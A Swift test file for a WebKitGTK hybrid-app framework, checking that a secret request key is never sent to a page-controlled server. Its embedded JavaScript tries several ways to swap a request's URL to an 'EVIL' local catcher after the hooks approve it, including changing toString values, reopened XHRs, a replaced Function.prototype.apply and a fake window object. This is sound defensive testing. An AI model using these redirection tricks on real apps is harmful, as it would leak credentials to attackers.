#if canImport(CWebKitGTK)  // WebKitGTK: Linux only (see Package.swift)
import Foundation
import HybridKit
import HybridKitGTK
import HybridTestServers
import Hummingbird
import Synchronization
import Testing

/// The body key goes only where the hooks vouched for, in real WebKitGTK: a page that changes a request's URL
/// between the hooks' check and the engine's send (an object naming another URL each time it is read, a body whose
/// `toString` opens the request again, an `open` taken from a realm the hooks had not reached, a replaced
/// `Function.prototype.apply`, an object posing as a window) must not get the key sent to a server it controls.
/// With the key a page could post a Blob the scheme handler reads, which crashes WebKitGTK 2.50's UI process.
@Suite(.serialized) struct KeyedURLGTKTests {
    /// A server the page controls: it lets any origin send anything (CORS preflights allowed) and records every
    /// header value it is sent.
    final class Catcher: Sendable {
        let server: LoopbackServer

        init() async throws {
            let empty = FileManager.default.temporaryDirectory.appendingPathComponent("catcher-\(UUID().uuidString)")
            try FileManager.default.createDirectory(at: empty, withIntermediateDirectories: true)
            let recorder = Recorder()
            server = try await LoopbackServer.start(serving: empty) { router in
                for method: HTTPRequest.Method in [.options, .post, .get, .put] {
                    router.on("/catch", method: method) { (request: Hummingbird.Request, _) in
                        recorder.record(request.headers)
                        return Response(status: .ok, headers: Self.cors)
                    }
                }
            }
            self.recorder = recorder
        }

        private let recorder: Recorder

        /// Every header value the catcher was sent, as `name: value`.
        final class Recorder: Sendable {
            let values = Mutex<[String]>([])
            func record(_ headers: HTTPFields) {
                values.withLock { values in
                    for field in headers { values.append("\(field.name.rawName): \(field.value)") }
                }
            }
        }

        static let cors: HTTPFields = [
            .accessControlAllowOrigin: "*", .accessControlAllowHeaders: "*", .accessControlAllowMethods: "*",
        ]

        var url: String { "\(server.origin)/catch" }
        func saw(_ part: String) -> Bool { recorder.values.withLock { $0.contains { $0.contains(part) } } }
    }

    /// Every way the review found to move a keyed request between the check and the send, each run after the
    /// last one settled; `EVIL` is the catcher's URL. Each resolves to a short note (what the page saw).
    static func attacks(evil: String) -> String {
        """
        (async () => {
          const EVIL = '\(evil)';
          const notes = [];
          const settle = (p) => Promise.resolve(p).then((r) => 'ok', (e) => 'error ' + (e && e.name));
          // A request opened again elsewhere and never sent has no end: it settles after 3 s.
          const xhrDone = (x) => new Promise((resolve) => {
            x.onloadend = () => resolve(x.status);
            setTimeout(() => resolve('no end'), 3000);
          });
          // (a) fetch and sendBeacon with an object that names the page's origin for its first reads, then EVIL.
          for (let reads = 1; reads <= 4; reads++) {
            let n = 0;
            const url = { toString() { return ++n <= reads ? '/echo' : EVIL; } };
            notes.push('fetch ' + reads + ' ' + await settle(fetch(url, { method: 'POST', body: 'a' })));
            let m = 0;
            const beaconURL = { toString() { return ++m <= reads ? '/echo' : EVIL; } };
            notes.push('beacon ' + reads + ' ' + navigator.sendBeacon(beaconURL, 'b'));
          }
          // (b) a body whose toString opens the request again, with the hooks' open and with one from a realm
          // they have not reached (a new frame read through window[i], not its hooked contentWindow getter).
          const frame = document.createElement('iframe');
          document.body.appendChild(frame);
          const rawOpen = window[window.length - 1].XMLHttpRequest.prototype.open;
          for (const enabled of [true, false]) {
            __hybridRequests.setEnabled(enabled);
            for (const open of [(x) => x.open('POST', EVIL), (x) => rawOpen.call(x, 'POST', EVIL)]) {
              const x = new XMLHttpRequest();
              x.open('POST', '/echo');
              const done = xhrDone(x);
              try { x.send({ toString() { open(x); return 'b'; } }); } catch (e) { notes.push('send threw ' + e.name); }
              notes.push('xhr reopened ' + enabled + ' ' + await done);
            }
            // (c) the URL given to open() as an object read differently each time.
            for (let reads = 1; reads <= 3; reads++) {
              let n = 0;
              const x = new XMLHttpRequest();
              x.open('POST', { toString() { return ++n <= reads ? '/echo' : EVIL; } });
              const done = xhrDone(x);
              x.send('c');
              notes.push('xhr url ' + reads + ' ' + await done);
            }
            // (d) Function.prototype.apply replaced, so a hook passing arguments through it would send them elsewhere.
            const realApply = Function.prototype.apply;
            Function.prototype.apply = function (self, args) {
              if (args && args.length > 1 && String(args[1]).includes('/echo')) {
                args = Array.prototype.slice.call(args);
                args[1] = EVIL;
              }
              return Reflect.apply(this, self, args || []);
            };
            const x = new XMLHttpRequest();
            x.open('POST', '/echo');
            const done = xhrDone(x);
            x.send('d');
            Function.prototype.apply = realApply;
            notes.push('xhr apply ' + enabled + ' ' + await done);
          }
          __hybridRequests.setEnabled(true);
          // (e) an object posing as a window, with an open that goes to EVIL: the hooks must not install on it.
          const realOpen = XMLHttpRequest.prototype.open;
          const FakeXHR = function () {};
          FakeXHR.prototype = Object.create(XMLHttpRequest.prototype);
          FakeXHR.prototype.open = function (method) { return realOpen.call(this, method, EVIL); };
          const fake = { location: { href: location.href }, document, XMLHttpRequest: FakeXHR, fetch, navigator,
            HTMLFormElement, HTMLIFrameElement, HTMLFrameElement, HTMLObjectElement, open: window.open,
            addEventListener() {}, Blob, Request, Headers, URL };
          try { __hybridRequests.hooksRealm(fake); } catch (e) { notes.push('hooksRealm threw ' + e.name); }
          notes.push('fake hooked ' + (fake.__hybridRequests !== undefined));
          if (fake.__hybridRequests) fake.__hybridRequests.setEnabled(false);
          const y = new XMLHttpRequest();
          const yDone = xhrDone(y);
          FakeXHR.prototype.open.call(y, 'POST', '/echo');
          FakeXHR.prototype.send.call(y, 'e');
          notes.push('fake send ' + await yDone);
          // A real frame of the page is still hooked through hooksRealm.
          __hybridRequests.hooksRealm(window[window.length - 1]);
          notes.push('frame hooked ' + (window[window.length - 1].__hybridRequests !== undefined));
          // The control: the page's own header does reach the catcher, so a key sent there would be seen.
          notes.push('control ' + await settle(fetch(EVIL, { method: 'POST', headers: { 'X-Control': 'control-5d1e' },
            body: 'z' })));
          return notes.join('\\n');
        })()
        """
    }

    @Test(arguments: [BodiesLab.Side.bodyByID, .fullProxy])
    @GTKActor func theKeyGoesOnlyWhereTheHooksVouchedFor(side: BodiesLab.Side) async throws {
        let catcher = try await Catcher()
        defer { catcher.server.stop() }
        let lab = try await BodiesLab(proxy: side == .fullProxy ? RequestBodiesTests.makeProxy() : nil)
        defer { lab.close() }
        try await lab.load(lab.pageURL(side))
        let notes = try await lab.run(Self.attacks(evil: catcher.url), timeout: .seconds(90))
        // Give a beacon (sent without waiting) time to arrive where it went.
        try await Task.sleep(for: .milliseconds(500))
        #expect(catcher.saw("control-5d1e"), "the control did not reach the catcher, so the check is blind: \(notes)")
        #expect(!catcher.saw(lab.interception.handler.bodyKey), "the body key reached the page's server: \(notes)")
        #expect(notes.contains("fake hooked false"), "the hooks installed on an object posing as a window: \(notes)")
        #expect(notes.contains("frame hooked true"), "a real frame is no longer hooked: \(notes)")
        // Still alive (native read no Blob body) and the page's own keyed text still arrives.
        let echoed = try await lab.run(
            "fetch('/echo', { method: 'POST', body: 'still here' }).then((r) => r.json()).then((e) => e.length)")
        #expect(echoed == "10")
    }

    /// A `no-cors` POST to the page's own origin keeps its body: under `no-cors` the engine drops every header but a
    /// few, the key and the body's tag among them, and native refused the body (the unhooked engine sends it).
    @Test(arguments: [BodiesLab.Side.bodyByID, .fullProxy])
    @GTKActor func aNoCorsPostToThePagesOwnOriginKeepsItsBody(side: BodiesLab.Side) async throws {
        let lab = try await BodiesLab(proxy: side == .fullProxy ? RequestBodiesTests.makeProxy() : nil)
        defer { lab.close() }
        try await lab.load(lab.pageURL(side))
        let lengths = try await lab.run(
            """
            (async () => {
              const length = async (body) => {
                const response = await fetch('/echo', { method: 'POST', mode: 'no-cors', body });
                return (await response.json()).length;
              };
              return [await length('abc'), await length(new Blob(['abcd'])), await length(new Uint8Array(5))];
            })()
            """)
        #expect(lengths == "[3,4,5]")
    }
}
#endif
